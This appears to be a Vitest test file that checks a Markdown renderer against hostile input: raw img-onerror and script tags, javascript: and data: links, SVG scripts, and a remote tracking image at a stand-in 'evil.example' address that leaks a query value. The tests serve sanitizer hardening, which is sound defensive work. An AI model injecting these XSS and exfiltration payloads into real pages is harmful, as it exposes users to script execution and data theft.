// @vitest-environment jsdom
// DOMPurify needs a DOM that parses like a browser: under happy-dom 21 it keeps onerror=
// attributes (found while writing these tests), so the sanitizer is tested under jsdom.
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../lib/markdown';

function dom(html: string) {
  const d = document.createElement('div');
  d.innerHTML = html;
  return d;
}

describe('renderMarkdown (hostile input)', () => {
  it('keeps raw HTML as text: no <img onerror>, no <script>', () => {
    const html = renderMarkdown('Hi <img src=x onerror="alert(1)"> <script>alert(2)</script>');
    const d = dom(html);
    expect(d.querySelector('img')).toBeNull();
    expect(d.querySelector('script')).toBeNull();
    expect(html).not.toMatch(/<img|<script/i);
    expect(d.textContent).toContain('<img src=x onerror="alert(1)">');
  });

  it('never loads a remote image: it becomes inert text naming the address', () => {
    const html = renderMarkdown('![pixel](https://evil.example/leak.png?q=secret)');
    const d = dom(html);
    expect(d.querySelector('img')).toBeNull();
    const blocked = d.querySelector('.md-blocked-img');
    expect(blocked?.textContent).toContain('https://evil.example/leak.png?q=secret');
    expect(html).not.toMatch(/src=["']?https?:/i);
  });

  it('allows inline data: images', () => {
    const d = dom(renderMarkdown('![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)'));
    expect(d.querySelector('img')?.getAttribute('src')).toMatch(/^data:image\/gif;base64,/);
  });

  it('drops javascript: and data: links, keeps http(s) links with noopener', () => {
    const d = dom(renderMarkdown('[a](javascript:alert(1)) [b](data:text/html,<script>x</script>) [c](https://ok.example/) [d](JAVASCRIPT:alert(1))'));
    const links = Array.from(d.querySelectorAll('a'));
    for (const a of links) expect(a.getAttribute('href') ?? '').not.toMatch(/^(javascript|data):/i);
    const ok = links.find((a) => a.getAttribute('href') === 'https://ok.example/');
    expect(ok).toBeTruthy();
    expect(ok!.getAttribute('rel')).toContain('noopener');
    expect(ok!.getAttribute('rel')).toContain('noreferrer');
    expect(ok!.getAttribute('target')).toBe('_blank');
  });

  it('strips svg/script and event handlers even from autolinks and reference links', () => {
    const d = dom(renderMarkdown('<svg><script>alert(1)</script></svg>\n\n[x][1]\n\n[1]: javascript:alert(1)\n\n<a href="https://x" onclick="alert(1)">y</a>'));
    expect(d.querySelector('svg, script')).toBeNull();
    for (const el of Array.from(d.querySelectorAll('*'))) {
      for (const a of Array.from(el.attributes)) {
        expect(a.name.startsWith('on')).toBe(false);
        expect(a.value).not.toMatch(/^\s*javascript:/i);
      }
    }
  });

  it('renders ordinary Markdown', () => {
    const d = dom(renderMarkdown('**bold** and `code`\n\n- one\n- two'));
    expect(d.querySelector('strong')?.textContent).toBe('bold');
    expect(d.querySelectorAll('li')).toHaveLength(2);
  });

  it('cuts very long content', () => {
    const html = renderMarkdown('a'.repeat(300_000));
    expect(html.length).toBeLessThan(210_000);
    expect(html).toContain('more characters not shown');
  });
});
